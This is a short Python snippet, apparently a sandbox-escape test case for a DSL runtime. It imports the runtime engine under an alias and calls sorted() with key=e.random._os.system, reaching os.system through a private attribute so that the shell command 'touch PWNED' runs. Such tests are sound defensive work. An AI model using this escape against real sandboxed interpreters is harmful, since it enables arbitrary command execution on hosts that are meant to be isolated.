# Attack: import the runtime module under a name of one's own choosing.
from dsl.runtime import engine as e

sorted(["touch PWNED"], key=e.random._os.system)
